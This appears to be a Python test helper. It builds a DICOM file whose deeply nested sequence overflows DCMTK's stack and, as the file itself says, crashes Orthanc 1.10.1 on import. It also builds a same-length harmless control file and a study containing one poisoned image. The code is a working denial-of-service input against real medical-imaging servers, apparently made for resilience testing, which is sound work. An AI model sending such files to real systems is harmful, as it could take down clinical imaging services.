"""A file whose import kills Orthanc: a sequence nested so deep that DCMTK runs out of stack (SIGSEGV).

Tried on 1.10.1.
"""

from __future__ import annotations

from tests.support.dicom_data import small_instances

DEPTH = 60_000

_TAG = b"\xe1\x7f\x01\x10"  # behind the pixels, so that what stands before them can be read by itself
_SEQUENCE = _TAG + b"SQ\x00\x00" + b"\xff" * 4
_ITEM = b"\xfe\xff\x00\xe0" + b"\xff" * 4
_ENDS = b"\xfe\xff\x0d\xe0" + bytes(4) + b"\xfe\xff\xdd\xe0" + bytes(4)


def poisoned(data: bytes) -> bytes:
    """The same instance with such a sequence."""
    return data + (_SEQUENCE + _ITEM) * DEPTH + _ENDS * DEPTH


def harmless(data: bytes) -> bytes:
    """The same instance, as long as ``poisoned``."""
    length = len(poisoned(data)) - len(data) - 12
    return data + _TAG + b"OB\x00\x00" + length.to_bytes(4, "little") + bytes(length)


def poisoned_study(count: int, index: int) -> list[bytes]:
    """A study of small images of which the one at ``index`` is poison."""
    files = list(small_instances(count, name="Phantom^Poison"))
    files[index] = poisoned(files[index])
    return files
